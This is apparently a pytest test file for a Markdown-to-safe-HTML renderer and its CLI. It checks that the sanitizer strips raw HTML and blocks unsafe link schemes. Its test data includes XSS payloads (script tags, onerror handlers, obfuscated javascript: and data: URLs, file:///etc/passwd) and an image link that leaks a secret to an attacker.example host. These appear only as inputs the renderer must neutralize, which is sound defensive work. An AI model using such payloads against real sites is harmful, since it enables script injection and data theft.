"""Markdown -> safe HTML: the allowlist, link rules, no images by default, and `laika render`."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from laika_host.protocol import Document
from laika_host.render import document_to_markdown, document_to_safe_html, markdown_to_safe_html
from laika_host.render.html import ALLOWED_TAGS, LINK_REL, _cleaner

from strategies import render_documents
from support import run_laika

REL = f'rel="{LINK_REL}"'
ALLOWED_URL_PREFIXES = ("http://", "https://", "mailto:")


def elements(html: str) -> list[Any]:
    """Every element of a rendered fragment (lxml wraps it in one <div>, left out here)."""
    return list(lxml.html.fragment_fromstring(html, create_parent="div").iterdescendants())


def assert_safe(html: str, *, images: bool = False) -> None:
    allowed = ALLOWED_TAGS | {"img"} if images else ALLOWED_TAGS
    for element in elements(html):
        assert element.tag in allowed, html
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), html
            if name in {"href", "src"}:
                assert value.lower().startswith(ALLOWED_URL_PREFIXES), html


# --- the allowlist ------------------------------------------------------------------------

ALLOWED_SAMPLES = {
    "p": "plain",
    "br": "one  \ntwo",
    "strong": "**bold**",
    "em": "*it*",
    "code": "`x`",
    "pre": "```\ncode\n```",
    "blockquote": "> quoted",
    "hr": "---",
    "ul": "- item",
    "ol": "1. item",
    "li": "- item",
    **{f"h{level}": f"{'#' * level} title" for level in range(1, 7)},
    "table": "| a |\n| - |\n| b |",
    "a": "[link](https://example.com/)",
}


@pytest.mark.parametrize(("tag", "markdown"), ALLOWED_SAMPLES.items())
def test_each_allowed_tag_survives(tag: str, markdown: str) -> None:
    html = markdown_to_safe_html(markdown)
    assert tag in {element.tag for element in elements(html)}, html
    assert_safe(html)


def test_the_samples_cover_the_whole_allowlist() -> None:
    assert set(ALLOWED_SAMPLES) | {"thead", "tbody", "tr", "th", "td"} == ALLOWED_TAGS


@pytest.mark.parametrize(
    "raw",
    [
        "<script>alert(1)</script>",
        "<div onclick=alert(1)>x</div>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<style>body{display:none}</style>",
        "<img src=x onerror=alert(1)>",
        "<!-- a comment -->",
        "<a href='javascript:alert(1)'>x</a>",
        "<svg><script>alert(1)</script></svg>",
    ],
)
def test_raw_html_in_markdown_renders_as_text(raw: str) -> None:
    html = markdown_to_safe_html(f"before {raw} after")
    assert [element.tag for element in elements(html)] == ["p"]
    text = lxml.html.fragment_fromstring(html).text_content()
    assert text == f"before {raw} after"


def test_raw_html_block_renders_as_text() -> None:
    html = markdown_to_safe_html("<div>\n<script>alert(1)</script>\n</div>")
    assert "<script" not in html
    assert "&lt;script&gt;" in html


def test_the_sanitizer_alone_strips_what_the_parser_never_emits() -> None:
    """Defense in depth: were the CommonMark layer to let markup through, nh3 still removes it."""
    dirty = (
        '<div onclick="x()"><script>alert(1)</script><p style="color:red" class="c">ok</p>'
        '<a href="javascript:alert(1)" onmouseover="x()">j</a><img src="https://e.com/i.png">'
        "<iframe src=https://e.com></iframe><!-- secret --><form><input></form></div>"
    )
    clean = _cleaner(images=False).clean(dirty)
    assert clean == f"<p>ok</p><a {REL}>j</a>"


# --- links ----------------------------------------------------------------------------------


def test_every_link_gets_rel() -> None:
    html = markdown_to_safe_html(
        "[a](https://a.example/) [b](http://b.example/x?y=1) [m](mailto:me@example.com)"
        " <https://c.example/> [t](https://d.example/ 'a title')"
    )
    links = [element for element in elements(html) if element.tag == "a"]
    assert len(links) == 5
    for link in links:
        assert link.get("rel") == LINK_REL
        assert link.get("href").startswith(ALLOWED_URL_PREFIXES)
        assert set(link.attrib) == {"href", "rel"}  # no title, no target


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java&#09;script:alert(1)",
        "javascript&colon;alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "data:image/png;base64,iVBORw0KGgo=",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
        "/relative/path",
        "//protocol-relative.example/",
        "#fragment",
        "ftp://example.com/",
    ],
)
def test_links_outside_http_https_mailto_lose_their_href_and_keep_their_text(href: str) -> None:
    html = markdown_to_safe_html(f"see [the docs]({href}) now")
    assert "the docs" in html
    for element in elements(html):
        assert "href" not in element.attrib, html
    assert_safe(html)


def test_autolinks_with_a_bad_scheme_stay_text() -> None:
    html = markdown_to_safe_html("<javascript:alert(1)> <data:text/html,x>")
    assert "href" not in html
    assert_safe(html)


# --- images ---------------------------------------------------------------------------------


def test_images_render_as_alt_text_by_default() -> None:
    html = markdown_to_safe_html(
        "![the *secret* <b>](https://attacker.example/log?q=SECRET) and ![](https://x.example/i.png)"
    )
    assert "<img" not in html
    assert "attacker" not in html
    assert "x.example" not in html
    assert html == "<p>the secret &lt;b&gt; and </p>\n"


def test_a_linked_image_keeps_its_link_but_shows_only_alt_text() -> None:
    html = markdown_to_safe_html("[![logo](https://e.example/logo.png)](https://e.example/)")
    assert html == f'<p><a href="https://e.example/" {REL}>logo</a></p>\n'


def test_allow_images_keeps_http_images_only() -> None:
    html = markdown_to_safe_html(
        "![a](https://e.example/a.png 'title') ![b](http://e.example/b.png)"
        " ![c](data:image/png;base64,iVBORw0KGgo=) ![d](javascript:alert(1)) ![e](/rel.png)",
        allow_images=True,
    )
    images = [element for element in elements(html) if element.tag == "img"]
    sources = [image.get("src") for image in images]
    # data:, javascript: and relative sources are all dropped; the image keeps only its alt
    assert sources == ["https://e.example/a.png", "http://e.example/b.png", None, None, None]
    assert "javascript" not in html
    assert "data:" not in html
    assert all(set(image.attrib) <= {"src", "alt"} for image in images)
    assert_safe(html, images=True)


def test_allow_images_still_strips_raw_img_tags() -> None:
    html = markdown_to_safe_html(
        "<img src=https://e.example/a.png onerror=alert(1)>", allow_images=True
    )
    assert "<img" not in html


# --- tables, lists, code --------------------------------------------------------------------


def test_gfm_table_has_thead_and_tbody_without_style() -> None:
    html = markdown_to_safe_html("| Day | High |\n|:--|--:|\n| Mon | 06:12 |\n| Tue | 06:58 |")
    assert html == (
        "<table>\n<thead>\n<tr>\n<th>Day</th>\n<th>High</th>\n</tr>\n</thead>\n"
        "<tbody>\n<tr>\n<td>Mon</td>\n<td>06:12</td>\n</tr>\n<tr>\n<td>Tue</td>\n"
        "<td>06:58</td>\n</tr>\n</tbody>\n</table>\n"
    )


def test_ordered_list_keeps_its_start_and_code_loses_its_class() -> None:
    html = markdown_to_safe_html('3. three\n4. four\n\n```js"><script>\nx < y\n```')
    assert '<ol start="3">' in html
    assert "<pre><code>x &lt; y\n</code></pre>" in html


def test_no_linkify_and_no_typographer() -> None:
    html = markdown_to_safe_html('visit www.example.com or https://example.com -- "quoted"')
    assert "<a" not in html
    assert '-- "quoted"' in html or "-- &quot;quoted&quot;" in html


# --- properties and size ------------------------------------------------------------------


@settings(max_examples=300, deadline=None)
@given(
    st.text(alphabet=st.sampled_from("<>&\"'`*_[]()!:/#-|=\\ \nabjvscriptdaolnerf1"), max_size=200)
)
def test_any_markdown_renders_to_the_allowlist(markdown: str) -> None:
    assert_safe(markdown_to_safe_html(markdown))
    assert_safe(markdown_to_safe_html(markdown, allow_images=True), images=True)


@pytest.mark.slow  # > 3 s with the cores busy
@settings(max_examples=150, deadline=None)
@given(render_documents)
def test_document_to_safe_html_is_the_markdown_path(data: dict[str, Any]) -> None:
    document = Document.model_validate(data)
    html = document_to_safe_html(document)
    assert html == markdown_to_safe_html(document_to_markdown(document))
    assert_safe(html)


PATHOLOGICAL = {
    "open brackets": "[" * 20_000,
    "open images": "![" * 20_000,
    "unclosed links": "[a](" * 20_000,
    "emphasis runs": "*a_" * 20_000,
    "nested quotes": "> " * 20_000 + "x",
    "nested quotes at the cap": "> " * 95_000 + "x",  # took 38 s before nesting was capped
    "quoted tables": ">" * 5_000 + " | a |\n" + ">" * 5_000 + " | - |",
    "angles": "<" * 50_000,
    "angles after escapes": "\\<" * 30_000,
    "nested lists": "- " * 20_000 + "x",
    "backticks": "`a``" * 20_000,
    "entities": "&#" * 20_000,
    "wide table": "|" + "a|" * 5_000 + "\n|" + "-|" * 5_000 + "\n" + "|" + "b|" * 5_000,
    "long table": "|a|b|\n|-|-|\n" + "|x|y|\n" * 10_000,
    "nested links": "[" * 3_000 + "a" + "](https://e.example/)" * 3_000,
}


@pytest.mark.parametrize("markdown", PATHOLOGICAL.values(), ids=PATHOLOGICAL.keys())
def test_hostile_input_completes(markdown: str) -> None:
    html = markdown_to_safe_html(markdown)
    assert html
    assert_safe(html)


def test_large_realistic_input_completes() -> None:
    section = (
        "## Tides\n\nHigh water comes **twice** a day; see [the table](https://e.example/t).\n\n"
        "- spring tides\n- neap tides\n\n| Day | High |\n| --- | --- |\n| Mon | 06:12 |\n\n"
        "```\ncode < here\n```\n\n"
    )
    markdown = section * (190_000 // len(section))  # just under the cap
    html = markdown_to_safe_html(markdown)
    assert html.count("<table>") == markdown.count("| Day |")


# --- laika render ---------------------------------------------------------------------------


def run_render(*args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess[str]:
    """`laika render ...`, as a user runs it."""
    return run_laika("render", *args, stdin=stdin)


def test_cli_renders_markdown_from_standard_input() -> None:
    done = run_render("-", stdin=b"# Hi <script>x</script>\n\n![a](https://e.example/a.png)")
    assert done.returncode == 0, done.stderr
    assert done.stdout == "<h1>Hi &lt;script&gt;x&lt;/script&gt;</h1>\n<p>a</p>\n"


def test_cli_allow_images_and_a_file(tmp_path: Any) -> None:
    path = tmp_path / "answer.md"
    path.write_text("![a](https://e.example/a.png)", encoding="utf-8")
    done = run_render("--allow-images", str(path))
    assert done.returncode == 0, done.stderr
    assert done.stdout == '<p><img src="https://e.example/a.png" alt="a"></p>\n'


def test_cli_renders_a_document() -> None:
    document = {
        "type": "doc",
        "children": [
            {"type": "heading", "level": 2, "children": [{"type": "text", "text": "<b>Sum</b>"}]},
            {
                "type": "paragraph",
                "children": [
                    {
                        "type": "link",
                        "href": "https://e.example/",
                        "children": [{"type": "text", "text": "source"}],
                    }
                ],
            },
        ],
    }
    done = run_render("--document", "-", stdin=json.dumps(document).encode())
    assert done.returncode == 0, done.stderr
    assert done.stdout == (
        f'<h2>&lt;b&gt;Sum&lt;/b&gt;</h2>\n<p><a href="https://e.example/" {REL}>source</a></p>\n'
    )


def test_cli_invalid_document_exits_1_naming_each_problem() -> None:
    document = {
        "type": "doc",
        "children": [
            {"type": "heading", "level": 9, "children": []},
            {
                "type": "paragraph",
                "children": [{"type": "link", "href": "javascript:alert(1)", "children": []}],
            },
        ],
    }
    done = run_render("--document", "-", stdin=json.dumps(document).encode())
    assert done.returncode == 1
    assert done.stdout == ""
    assert "children[0].level" in done.stderr
    assert "children[1].children[0].href: must be an http, https or mailto link" in done.stderr


def test_cli_document_that_is_not_json_exits_2() -> None:
    done = run_render("--document", "-", stdin=b"# just markdown")
    assert done.returncode == 2
    assert done.stdout == ""
    assert "not JSON" in done.stderr


def test_input_past_the_cap_is_cut_with_a_visible_note() -> None:
    from laika_host.render.html import MAX_MARKDOWN_CHARS

    html = markdown_to_safe_html("line of text\n\n" * (MAX_MARKDOWN_CHARS // 10))
    assert html.count("<p>line of text</p>") < MAX_MARKDOWN_CHARS // 10
    assert "Truncated: the rest of this text was too long to display" in html


def test_cli_refuses_a_binary_file_with_exit_2(tmp_path: Any) -> None:
    """A program (NUL bytes, not UTF-8) is refused with a message, not shown as mojibake."""
    binary = tmp_path / "program.bin"
    binary.write_bytes(Path(sys.executable).read_bytes()[:4096])
    done = run_render(str(binary))
    assert done.returncode == 2
    assert done.stdout == ""
    assert done.stderr.startswith("laika render: ")
    assert "give a Markdown file" in done.stderr


@given(st.text(max_size=200).filter(lambda t: "\0" not in t and not t.startswith("\ufeff")))
def test_render_takes_any_text_as_it_is(text: str) -> None:
    from laika_host.cli.render import _text

    assert _text(text.encode()) == text


@given(st.binary(max_size=200))
def test_render_input_is_text_as_given_or_refused_with_exit_2(data: bytes) -> None:
    """Over all byte strings: either the exact text of the bytes (no NUL in it) or exit 2;
    never replacement characters standing in for what could not be read."""
    from laika_host.cli.render import _text

    refused = b"\0" in data or _not_utf8(data)
    if refused:
        with pytest.raises(SystemExit) as exited:
            _text(data)
        assert exited.value.code == 2
        return
    text = _text(data)
    assert "\0" not in text
    assert text.encode() == data.removeprefix(b"\xef\xbb\xbf")


def _not_utf8(data: bytes) -> bool:
    try:
        data.decode("utf-8")
    except UnicodeDecodeError:
        return True
    return False
